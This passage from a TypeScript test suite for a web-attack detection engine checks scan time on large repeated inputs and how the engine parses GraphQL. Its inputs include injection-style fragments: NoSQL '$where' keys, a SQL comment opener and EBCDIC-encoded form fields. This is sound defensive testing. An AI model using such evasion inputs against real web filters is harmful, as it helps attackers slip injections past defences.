    assertCheap('YAML operator keys', body('application/yaml'), '\n  $where: x'.repeat(10_000), { ceilingMs: 300 });
    assertCheap('repeated parameters', (s) => engine.inspect(req({ rawQuery: s })), 'id=1/*&'.repeat(20_000), { ceilingMs: 300 });
    assertCheap('an EBCDIC form', body('application/x-www-form-urlencoded; charset=ibm037'), '%C1%C2=%7D%4D&'.repeat(10_000), { ceilingMs: 300 });
    assertCheap('matrix parameters', (s) => engine.inspect(req({ rawPath: s })), '/a' + ';b=c'.repeat(10_000), { ceilingMs: 300 });
    assertCheap('batch parts', body('multipart/mixed; boundary=B'), '--B\r\nContent-Type: application/http\r\n\r\nGET /x?a=1 HTTP/1.1\r\nX: y\r\n\r\n\r\n'.repeat(2000) + '--B--\r\n', { ceilingMs: 500 });
  });
});

describe('marker check: GraphQL reading keeps to strings', () => {
  test('detectors see the strings of a document, never its structure', () => {
    const seen: string[] = [];
    const spy: NamedDetector = {
      id: 'spy',
      category: 'sqli',
      detect: (text, _lower, ctx): Hit | undefined => {
        if (ctx.location === 'body') seen.push(`${ctx.name}=${text}`);
        return undefined;
      },
    };
    new ThreatEngine({ detectors: [spy] }).inspect(json({ query: 'query ($n: Int) { u(id: "7", n: $n) { f(x: ["a"]) } }', variables: { n: 1 } }));
    assert.deepEqual(seen, ['query=query', 'id=7', 'x=a', 'variables=variables', 'n=n']);
  });
});
